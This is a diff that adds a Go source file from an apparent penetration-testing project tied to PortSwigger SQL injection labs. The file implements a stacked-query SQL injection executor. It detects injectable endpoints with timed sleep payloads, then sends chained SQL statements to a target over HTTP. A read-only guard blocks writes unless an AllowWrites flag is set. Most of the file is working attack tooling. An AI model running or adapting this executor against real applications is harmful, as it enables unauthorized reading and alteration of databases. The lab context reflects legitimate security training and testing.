@@ -0,0 +1,259 @@
+package sqli
+
+import (
+	"fmt"
+	"regexp"
+	"strings"
+	"time"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// StackedExecutor runs whole statements after the vulnerable query, chained with ";".
+// Such statements can change data, so anything but a single read is refused unless AllowWrites is set.
+type StackedExecutor struct {
+	client   *utility.HTTPClient
+	point    InjectionPoint
+	boundary Boundary
+	db       constant.Database
+
+	AllowWrites bool // Permit statements other than a single read
+}
+
+// NewStackedExecutor returns an executor for a database that can chain statements.
+func NewStackedExecutor(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, db constant.Database, allowWrites bool) (*StackedExecutor, error) {
+	if err := db.Require(constant.CAPABILITY_STACKED_QUERIES); err != nil {
+		return nil, err
+	}
+	return &StackedExecutor{
+		client:      client,
+		point:       point,
+		boundary:    boundary,
+		db:          db,
+		AllowWrites: allowWrites,
+	}, nil
+}
+
+// Detect checks whether stacked statements run by chaining a sleep after the query.
+// The sleep must delay the response beyond the baseline of zero-second sleeps, and
+// a second zero-second sleep must not, which rules out a latency spike.
+func (e *StackedExecutor) Detect() (bool, error) {
+	var stats latencyStats
+	for range constant.TIME_BASELINE_SAMPLES {
+		elapsed, err := e.sleep(0)
+		if err != nil {
+			return false, fmt.Errorf("failed to measure baseline latency: %w", err)
+		}
+		stats.add(elapsed)
+	}
+
+	margin := time.Duration(constant.TIME_STDDEV_MULTIPLIER) * stats.stddev()
+	halfDelay := time.Duration(constant.STACKED_DELAY_SECONDS) * time.Second / 2
+	threshold := stats.mean() + max(margin, halfDelay)
+	logger.Debugf("Stacked sleep threshold: %s", threshold)
+
+	elapsed, err := e.sleep(constant.STACKED_DELAY_SECONDS)
+	if err != nil {
+		return false, err
+	}
+	if elapsed < threshold {
+		logger.Debugf("Stacked sleep did not delay the response (%s < %s)", elapsed, threshold)
+		return false, nil
+	}
+
+	elapsed, err = e.sleep(0)
+	if err != nil {
+		return false, err
+	}
+	return elapsed < threshold, nil
+}
+
+// Exec runs the statement as a stacked query once it passes CheckStatement.
+// Results of stacked statements are not rendered, so only the response is returned.
+func (e *StackedExecutor) Exec(statement string) (*Response, error) {
+	if err := CheckStatement(statement, e.db, e.AllowWrites); err != nil {
+		return nil, err
+	}
+	return fetchResponse(e.client, e.point, e.payload(statement))
+}
+
+// sleep chains the dialect's sleep statement and returns how long the response took.
+func (e *StackedExecutor) sleep(seconds int) (time.Duration, error) {
+	response, elapsed, err := sendTimedPayload(e.client, e.point, e.payload(fmt.Sprintf(e.db.SleepStatement, seconds)))
+	if err != nil {
+		return 0, err
+	}
+	utility.SafeClose(response.Body)
+	return elapsed, nil
+}
+
+// payload closes the original value, chains the statement and comments out the rest of the query.
+func (e *StackedExecutor) payload(statement string) string {
+	return e.boundary.Stack(statement, e.db)
+}
+
+// dollarQuote matches the opening tag of a dollar-quoted string, e.g. $$ or $body$.
+var dollarQuote = regexp.MustCompile(`^\$(?:[A-Za-z_][A-Za-z_0-9]*)?\$`)
+
+// blankLiteralsAndComments replaces the string literals, quoted identifiers and comments of
+// the statement with spaces, reading them the way the database does. A literal or comment
+// that does not end is an error, as the database might end it somewhere else.
+func blankLiteralsAndComments(statement string, db constant.Database) (string, error) {
+	var code strings.Builder
+	for i := 0; i < len(statement); {
+		end, err := literalOrCommentEnd(statement, i, db)
+		if err != nil {
+			return "", err
+		}
+		if end > i {
+			code.WriteByte(' ')
+			i = end
+			continue
+		}
+		code.WriteByte(statement[i])
+		i++
+	}
+	return code.String(), nil
+}
+
+// literalOrCommentEnd returns the end of the literal, quoted identifier or comment that
+// starts at i, or i when none starts there.
+func literalOrCommentEnd(statement string, i int, db constant.Database) (int, error) {
+	rest := statement[i:]
+	switch {
+	case rest[0] == '\'':
+		isEscapeString := db.EscapeStrings && i > 0 && (statement[i-1] == 'E' || statement[i-1] == 'e') && (i == 1 || !isIdentifierByte(statement[i-2]))
+		return quotedEnd(statement, i, '\'', db.BackslashEscapes || isEscapeString)
+	case rest[0] == '"':
+		return quotedEnd(statement, i, '"', db.BackslashEscapes)
+	case strings.IndexByte(db.IdentifierQuotes, rest[0]) >= 0:
+		closing := rest[0]
+		if closing == '[' {
+			closing = ']'
+		}
+		return quotedEnd(statement, i, closing, false)
+	case db.DollarQuotes && rest[0] == '$' && (i == 0 || !isIdentifierByte(statement[i-1])):
+		tag := dollarQuote.FindString(rest)
+		if tag == "" {
+			return i, nil
+		}
+		end := strings.Index(rest[len(tag):], tag)
+		if end < 0 {
+			return 0, fmt.Errorf("%s string does not end", tag)
+		}
+		return i + len(tag) + end + len(tag), nil
+	case strings.HasPrefix(rest, "/*") && !(db.ExecutableComments && strings.HasPrefix(rest, "/*!")):
+		return blockCommentEnd(statement, i, db.NestedComments)
+	}
+	for _, style := range db.Comment {
+		if isLineComment(rest, style) {
+			if end := strings.IndexByte(rest, '\n'); end >= 0 {
+				return i + end, nil
+			}
+			return len(statement), nil
+		}
+	}
+	return i, nil
+}
+
+// quotedEnd returns the end of the literal or identifier opened at start and closed by
+// closing, which is escaped by doubling it or, with backslash escapes, by a backslash.
+func quotedEnd(statement string, start int, closing byte, backslashEscapes bool) (int, error) {
+	for i := start + 1; i < len(statement); i++ {
+		switch {
+		case backslashEscapes && statement[i] == '\\':
+			i++
+		case statement[i] == closing:
+			if i+1 < len(statement) && statement[i+1] == closing {
+				i++
+				continue
+			}
+			return i + 1, nil
+		}
+	}
+	return 0, fmt.Errorf("%c at offset %d is not closed", statement[start], start)
+}
+
+// blockCommentEnd returns the end of the block comment opened at start.
+func blockCommentEnd(statement string, start int, nested bool) (int, error) {
+	depth := 0
+	for i := start; i+1 < len(statement); {
+		switch {
+		case statement[i:i+2] == "/*" && (depth == 0 || nested):
+			depth++
+			i += 2
+		case statement[i:i+2] == "*/":
+			depth--
+			i += 2
+			if depth == 0 {
+				return i, nil
+			}
+		default:
+			i++
+		}
+	}
+	return 0, fmt.Errorf("comment at offset %d does not end", start)
+}
+
+// isLineComment reports whether the text starts with the comment style. MySQL only
+// reads -- as a comment when whitespace or a control character follows it.
+func isLineComment(text string, style string) bool {
+	if style == constant.DOUBLE_DASH_COMMENT_WITH_SPACE {
+		return strings.HasPrefix(text, "--") && (len(text) == 2 || text[2] <= ' ')
+	}
+	return strings.HasPrefix(text, style)
+}
+
+// isIdentifierByte reports whether the byte can be part of an unquoted identifier.
+func isIdentifierByte(b byte) bool {
+	return b == '_' || b == '$' || b >= '0' && b <= '9' || b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= 0x80
+}
+
+// readStatement matches the keyword a read-only statement starts with.
+var readStatement = regexp.MustCompile(`(?i)^\s*(?:` + strings.Join(constant.READ_STATEMENTS, "|") + `)\b`)
+
+// selectInto matches SELECT ... INTO, which writes the result to a new table or a file.
+var selectInto = regexp.MustCompile(`(?i)\bINTO\b`)
+
+// modifyingCTE matches a WITH query whose body is a data-modifying statement, e.g. WITH d AS (DELETE ...).
+var modifyingCTE = regexp.MustCompile(`(?i)\bAS\s*(?:NOT\s+)?(?:MATERIALIZED\s*)?\(\s*(?:INSERT|UPDATE|DELETE|MERGE)\b`)
+
+// sideEffectCall matches calls to functions that change state although they can be selected.
+var sideEffectCall = regexp.MustCompile(`(?i)\b(` + strings.ReplaceAll(strings.Join(constant.SIDE_EFFECT_FUNCTIONS, "|"), ".", `\s*\.\s*`) + `)\s*\(`)
+
+// CheckStatement only lets a single SELECT or WITH statement through, without INTO, data-modifying
+// WITH queries or calls to functions with side effects, unless writes are allowed. Allowing reads rather than
+// refusing known writes keeps anything the guard does not recognise from slipping through. Literals and
+// comments are read with the quoting and escaping rules of the database, so they cannot hide a second statement.
+func CheckStatement(statement string, db constant.Database, allowWrites bool) error {
+	statement = strings.TrimRight(strings.TrimSpace(statement), ";")
+	if strings.TrimSpace(statement) == "" {
+		return fmt.Errorf("empty statement")
+	}
+	if allowWrites {
+		return nil
+	}
+
+	code, err := blankLiteralsAndComments(statement, db)
+	if err != nil {
+		return fmt.Errorf("statement cannot be checked, %w; writes must be explicitly allowed", err)
+	}
+	if strings.Contains(code, ";") {
+		return fmt.Errorf("statement chains several statements, only a single read is allowed; writes must be explicitly allowed")
+	}
+	if !readStatement.MatchString(code) {
+		return fmt.Errorf("only statements starting with %s are reads; writes must be explicitly allowed", strings.Join(constant.READ_STATEMENTS, " or "))
+	}
+	if modifyingCTE.MatchString(code) {
+		return fmt.Errorf("statement has a WITH query that modifies data; writes must be explicitly allowed")
+	}
+	if selectInto.MatchString(code) {
+		return fmt.Errorf("statement contains INTO, which writes its result to a table or file; writes must be explicitly allowed")
+	}
+	if call := sideEffectCall.FindStringSubmatch(code); call != nil {
+		return fmt.Errorf("statement calls %s, which can change the database; writes must be explicitly allowed", call[1])
+	}
+	return nil
+}